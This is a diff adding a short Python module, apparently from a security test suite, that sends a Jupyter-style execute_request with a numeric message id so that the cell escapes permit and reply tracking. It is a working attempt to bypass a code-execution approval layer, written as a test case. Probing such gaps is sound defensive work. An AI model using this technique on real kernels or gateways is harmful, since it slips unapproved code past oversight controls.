@@ -1,0 +1,17 @@
+"""A cell whose id is a number: no permit could name it, and no answer find it."""
+
+from __future__ import annotations
+
+import json
+
+from attack_house import Client, cell
+
+MALFORMED = True
+
+
+def strike(client: Client, code: str) -> str:
+    header = {"msg_id": 7, "msg_type": "execute_request", "username": "", "session": client.session,
+              "date": "2026-01-01T00:00:00Z", "version": "5.4"}  # fmt: skip
+    whole = {"header": header, "parent_header": {}, "metadata": {}, "channel": "shell", "buffers": [], "content": cell(code)}
+    client.socket.send(json.dumps(whole))
+    return ""
